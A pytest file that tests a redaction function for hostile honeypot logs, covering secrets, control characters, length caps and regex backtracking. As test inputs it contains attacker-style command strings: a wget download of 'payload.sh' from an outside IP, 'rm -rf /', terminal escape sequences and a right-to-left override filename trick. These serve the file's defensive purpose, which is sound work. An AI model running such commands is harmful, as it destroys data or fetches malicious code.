"""Hostile log text is made safe: secrets redacted, controls stripped, lengths capped."""

from __future__ import annotations

import pytest

from rbr_analyst.redact import REDACTED, clean

SECRETS = [
    ("AKIAIOSFODNN7EXAMPLE", "aws access key id"),
    ("aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "aws secret key"),
    ("sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789", "anthropic key"),
    ("ghp_0123456789abcdefghijklmnopqrstuvwxyzAB", "github token"),
    ("xoxb-1234567890-0987654321-abcdefghijkl", "slack token"),
    ("https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXX", "slack webhook"),
    (
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "jwt",
    ),
    ("Authorization: Bearer abcdef0123456789abcdef0123456789", "bearer token"),
    ("API_KEY=9f8e7d6c5b4a39281706f5e4d3c2b1a0", "assigned api key"),
]


@pytest.mark.parametrize(("secret", "kind"), SECRETS, ids=[kind for _, kind in SECRETS])
def test_secrets_are_redacted(secret: str, kind: str) -> None:
    cleaned = clean(f"attacker ran: echo {secret} > /tmp/x", 500)
    assert REDACTED in cleaned, kind
    assert secret not in cleaned
    assert "attacker ran: echo" in cleaned


def test_password_in_a_url_is_redacted_but_the_host_kept() -> None:
    cleaned = clean("wget ftp://admin:hunter2secret@203.0.113.9/payload.sh", 500)
    assert "hunter2secret" not in cleaned
    assert "ftp://admin:[REDACTED]@203.0.113.9/payload.sh" in cleaned


def test_private_key_is_redacted_whole() -> None:
    key = (
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n"
        "-----END OPENSSH PRIVATE KEY-----"
    )
    cleaned = clean(f"cat > id <<EOF\n{key}\nEOF", 500)
    assert "b3BlbnNzaC1rZXktdjEAAAAA" not in cleaned
    assert "BEGIN OPENSSH" not in cleaned
    assert REDACTED in cleaned


def test_tried_passwords_are_not_mistaken_for_secrets() -> None:
    assert clean("123456") == "123456"
    assert clean("root") == "root"


def test_control_and_invisible_characters_are_removed() -> None:
    hostile = "ls\x1b[2J\x1b]0;owned\x07 -la\u202e\u200bfdp.exe\x00\nrm -rf /"
    cleaned = clean(hostile)
    assert all(ord(ch) >= 32 for ch in cleaned)
    assert "\u202e" not in cleaned
    assert "\u200b" not in cleaned
    assert cleaned.startswith("ls[2J]0;owned -la")
    assert cleaned.endswith("rm -rf /")


def test_length_is_capped_and_secrets_cut_at_the_cap_do_not_leak() -> None:
    long = "x" * 5000 + " AKIAIOSFODNN7EXAMPLE"
    cleaned = clean(long, 100)
    assert len(cleaned) == 100
    assert cleaned.endswith("…")
    near_cap = "y" * 90 + " AKIAIOSFODNN7EXAMPLE"
    assert "AKIAIOSF" not in clean(near_cap, 100)


# Inputs that made the secret patterns backtrack catastrophically (a name of repeated
# keywords without `=` took seconds for 4 KB, hours for 80 KB). They must simply finish;
# pytest's timeout is the only clock.
PATHOLOGICAL = [
    "secret-" * 12_000,
    "api_key" * 12_000,
    "a." * 40_000,
    "x://a:" * 14_000,
    "-----BEGIN " * 8000,
    "Bearer " * 12_000,
    "token: " * 12_000,
    '\\"token\\":' * 8000,
    "instance token: " * 6000,
]


@pytest.mark.parametrize("text", PATHOLOGICAL, ids=lambda t: repr(t[:12]))
def test_pathological_input_is_cleaned_without_catastrophic_backtracking(text: str) -> None:
    cleaned = clean(text + " API_KEY=9f8e7d6c5b4a39281706f5e4d3c2b1a0", 20_000)
    assert len(cleaned) <= 20_000


def test_secret_names_inside_other_text_are_still_found() -> None:
    cleaned = clean("x=my.api_key='abcdefgh1234' then client_secret: s3cr3tvalue9", 500)
    assert "abcdefgh1234" not in cleaned
    assert "s3cr3tvalue9" not in cleaned
    assert "my.api_key='[REDACTED]" in cleaned


TOKEN = "Q7fL2mN9pR4sT6vX8zA1bC3dE5gH7jK0"  # a honeypot's registration token

ROWS_WITH_THE_HONEYPOTS_TOKEN = [
    f"Generated instance token: {TOKEN}",
    f"Generated instance token for debugging: {TOKEN}",
    'Registration payload: RegistrationPayload { name: "rustbucket-P0aZ7mWq", ip_address: '
    f'"0.0.0.0", operating_system: "linux (x86_64)", token: "{TOKEN}", cpu_usage: None }}',
    # The JSON layout: the same Debug text inside a JSON string.
    '{"timestamp":"2025-12-12T14:00:00.123456Z","level":"INFO","fields":{"message":'
    '"Registration payload: RegistrationPayload { name: \\"rustbucket-P0aZ7mWq\\", '
    f'token: \\"{TOKEN}\\" }}"}},"target":"rustbucket::registration"}}',
    f'Server response: {{"name":"rustbucket-P0aZ7mWq","token":"{TOKEN}"}}',
    f"token={TOKEN}",
]


@pytest.mark.parametrize("row", ROWS_WITH_THE_HONEYPOTS_TOKEN)
def test_the_honeypots_own_registration_token_is_redacted(row: str) -> None:
    cleaned = clean(row, 1000)
    assert TOKEN not in cleaned
    assert REDACTED in cleaned
    assert "rustbucket-P0aZ7mWq" in cleaned or "rustbucket" not in row


def test_what_the_parser_already_redacted_stays_as_it_is() -> None:
    assert clean("Generated instance token: [REDACTED]") == "Generated instance token: [REDACTED]"
    assert clean('token: "[REDACTED]", cpu_usage: None') == 'token: "[REDACTED]", cpu_usage: None'
